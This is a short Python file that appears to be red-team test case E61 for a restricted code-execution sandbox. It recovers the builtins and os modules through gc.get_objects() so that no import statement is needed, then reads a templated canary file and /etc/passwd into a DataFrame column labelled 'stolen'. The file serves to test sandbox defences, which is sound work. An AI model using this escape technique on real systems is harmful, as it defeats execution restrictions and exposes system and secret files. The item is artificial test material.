# technique: gc.get_objects() to find the builtins and os module objects (no import, no name in the source), then builtins.open and os.read on the canary
# goal: read
# redteam: E61
import gc

import pandas as pd

modules = {}
for obj in gc.get_objects():
    if type(obj).__name__ == "module":
        modules.setdefault(getattr(obj, "__name__", None), obj)
real_builtins = modules["builtins"]
real_os = modules["os"]
with real_builtins.open("{{CANARY_FILE}}") as fh:
    first = fh.read()
fd = real_os.open("/etc/passwd", real_os.O_RDONLY)
second = real_os.read(fd, 2048).decode("latin-1")
df = pd.DataFrame({"target": ["canary", "/etc/passwd"], "stolen": [first, second]})
